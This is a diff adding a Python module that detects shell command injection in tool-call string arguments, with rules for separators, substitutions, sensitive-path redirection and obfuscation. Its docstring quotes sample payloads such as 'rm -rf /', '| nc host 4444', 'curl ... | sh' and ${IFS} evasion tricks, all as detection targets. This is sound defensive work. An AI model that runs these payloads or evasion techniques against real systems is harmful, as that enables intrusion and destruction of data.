@@ -1,0 +1,171 @@
+"""High-confidence shell (OS command) injection detection for tool-call string arguments.
+
+A value is suspicious when a server might paste it into a shell command line: what matters
+is whether it can *end* the intended command and *start* another. The detector looks for
+
+- ``BST-SH-001`` a command separator (``;``, ``|``, ``||``, ``&``, ``&&``) followed by a
+  word that is a command *and* has that command's argument shape (``; rm -rf /``,
+  ``| nc host 4444``, ``&& curl http://x | sh``; see ``_shell_commands``);
+- ``BST-SH-002`` command substitution, ``$(...)`` or backticks, around a command;
+- ``BST-SH-003`` redirection into or out of a sensitive path (``> /etc/passwd``,
+  ``>> ~/.ssh/authorized_keys``), or bash's ``/dev/tcp`` network pseudo-files;
+- ``BST-SH-004`` expansion tricks that only shell payloads use: ``${IFS}``, ``$IFS$9``,
+  ``${PATH:0:1}``, ANSI-C hex strings ``$'\\x63'``, all-wildcard paths ``/???/c?t``;
+- ``BST-SH-005`` a new line followed by an attack-typical command (values with at most two
+  line breaks; longer texts are documents, where new lines are not separators).
+
+Every rule also runs on the value URL-decoded once and on a de-obfuscated copy (``${IFS}``
+as a space, quotes and backslashes inside words removed, ``{cat,/etc/passwd}`` brace lists
+opened). Like the SQL detector it analyses at most the first 8 KiB and the last 1 KiB, and
+values without any shell metacharacter return ``None`` at once. CWE-78.
+"""
+
+from __future__ import annotations
+
+import re
+from urllib.parse import unquote
+
+from mcp_bastion.detectors._shell_commands import COMMANDS, arg_shapes
+from mcp_bastion.detectors.sqli import InjectionMatch, bounded
+
+__all__ = ["detect_shell_injection"]
+
+_SUSPICIOUS = re.compile(r"[;&|`$\n\r<>{%\\]")
+_PERCENT = re.compile(r"%[0-9a-fA-F]{2}")
+_SEPARATOR = re.compile(r";|&&|\|\||\||&|\n|\r")
+_SUBST = re.compile(r"\$\(|`")
+_WORD = re.compile(r"[^\s;&|`()<>]{1,200}")
+_LEAD = re.compile(r"[\s({!]*")
+_REDIRECT = re.compile(
+    r"(?:>>?|<)\s*(?:/etc/|/root/|/var/www|/var/spool/cron|/boot/|/bin/|/sbin/|/usr/(?:s?bin|lib)|"
+    r"~?/?\.ssh/|(?:~|/home/[^/\s]+)/\.(?:bashrc|profile|ssh)|/proc/self|[A-Za-z]:\\windows)",
+    re.IGNORECASE,
+)
+_DEV_NET = re.compile(r"/dev/(?:tcp|udp)/")
+_TRICKS = re.compile(
+    r"\$\{IFS\}|\$IFS\b|\$\{[A-Za-z_]\w*:-?\d+(?::\d+)?\}|\$'(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}){2}|"
+    r"(?:^|[\s;|&])/[?*]{2,4}/[\w?*]*[?*][\w?*]*"
+)
+_IFS = re.compile(r"\$\{IFS\}|\$IFS(?:\$\d)?")
+_INWORD_QUOTE = re.compile(r"(?<=\w)(?:''|\"\"|['\"\\])(?=\w)|\$@")
+_BRACE_LIST = re.compile(r"\{([\w./-]{1,64}(?:,[^{},\s]{1,200}){1,8})\}")
+_SEPARATOR_NAMES = {";": ";", "&&": "&&", "||": "||", "|": "|", "&": "&", "\n": "nl", "\r": "nl"}
+
+
+def _variants(text: str) -> list[str]:
+    out = [text]
+    if _PERCENT.search(text):
+        out.append(unquote(text))
+    for base in list(out):
+        clean = _IFS.sub(" ", base)
+        clean = _INWORD_QUOTE.sub("", clean)
+        clean = _BRACE_LIST.sub(lambda m: m.group(1).replace(",", " "), clean)
+        if clean != base:
+            out.append(clean)
+    return list(dict.fromkeys(out))
+
+
+def _command_at(text: str, pos: int) -> tuple[str, list[str], str, int]:
+    """Command word, its arguments, what ended them, and the end position, starting at ``pos``."""
+    lead = _LEAD.match(text, pos)
+    pos = lead.end() if lead else pos
+    words: list[str] = []
+    while len(words) < 6:
+        while pos < len(text) and text[pos] in " \t":
+            pos += 1
+        match = _WORD.match(text, pos)
+        if match is None:
+            break
+        words.append(match.group())
+        pos = match.end()
+    terminator = text[pos] if pos < len(text) else ""
+    if terminator == ">":
+        words.append(">")
+    if not words:
+        return "", [], terminator, pos
+    return words[0], words[1:], terminator, pos
+
+
+def _score(word: str, args: list[str], terminator: str, context: str) -> float:
+    """Confidence that ``word args`` is a command, for a separator or substitution ``context``."""
+    name = word.rsplit("/", 1)[-1] if word.startswith("/") else word
+    if name.lower() in ("whoami", "ipconfig", "powershell", "certutil", "systeminfo", "tasklist"):
+        name = name.lower()  # Windows command names are case-insensitive
+    command = COMMANDS.get(name)
+    absolute = word.startswith(("/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/"))
+    if command is None:
+        return 0.95 if absolute and context != "`" else 0.0
+    bare_end = terminator in ("", ";", "&", "\n", "\r", "#") or (
+        context in ("$(", "`") and terminator in (")", "`")
+    )
+    shapes = arg_shapes(args)
+    if not args and bare_end:
+        shapes.add("bare")
+        if context == "|":
+            shapes.add("bare-pipe")  # ``| sh``: a pipe into a shell needs no argument
+    if not shapes & command.shapes and not absolute:
+        return 0.0
+    if context in ("`", "nl") and not command.attack:
+        return 0.8
+    return 0.9 if context == "nl" else 0.95
+
+
+def _separators(text: str) -> InjectionMatch | None:
+    lines = text.count("\n") + text.count("\r")
+    best: InjectionMatch | None = None
+    for match in _SEPARATOR.finditer(text):
+        context = _SEPARATOR_NAMES[match.group()]
+        if context == "nl" and lines > 2:
+            continue
+        word, args, terminator, _ = _command_at(text, match.end())
+        if not word:
+            continue
+        conf = _score(word, args, terminator, context)
+        if conf and (best is None or conf > best.confidence):
+            rule = "BST-SH-005" if context == "nl" else "BST-SH-001"
+            reason = "command after a line break" if context == "nl" else "command after a shell separator"
+            best = InjectionMatch(rule, "shell", conf, f"{context}{word[:16]}", reason)
+            if conf >= 0.95:
+                break
+    return best
+
+
+def _substitutions(text: str) -> InjectionMatch | None:
+    best: InjectionMatch | None = None
+    for match in _SUBST.finditer(text):
+        context = match.group()
+        if context == "`" and text.count("`", match.end()) == 0:
+            continue  # an unpaired backtick substitutes nothing
+        word, args, terminator, _ = _command_at(text, match.end())
+        conf = _score(word, args, terminator, context) if word else 0.0
+        if conf and (best is None or conf > best.confidence):
+            best = InjectionMatch(
+                "BST-SH-002", "shell", conf, f"{context}{word[:16]}", "command substitution"
+            )
+            if conf >= 0.95:
+                break
+    return best
+
+
+def _patterns(text: str) -> InjectionMatch | None:
+    if _REDIRECT.search(text) or _DEV_NET.search(text):
+        return InjectionMatch("BST-SH-003", "shell", 0.95, ">path", "redirection to a sensitive path")
+    trick = _TRICKS.search(text)
+    if trick:
+        return InjectionMatch("BST-SH-004", "shell", 0.95, trick.group()[:16], "shell expansion trick")
+    return None
+
+
+def detect_shell_injection(value: str) -> InjectionMatch | None:
+    """Return the strongest shell-injection finding in ``value``, or ``None`` if it looks benign."""
+    if not _SUSPICIOUS.search(value):
+        return None
+    best: InjectionMatch | None = None
+    for text in _variants(bounded(value)):
+        for rule in (_patterns, _substitutions, _separators):
+            found = rule(text)
+            if found is not None and (best is None or found.confidence > best.confidence):
+                best = found
+                if best.confidence >= 0.95:
+                    return best
+    return best
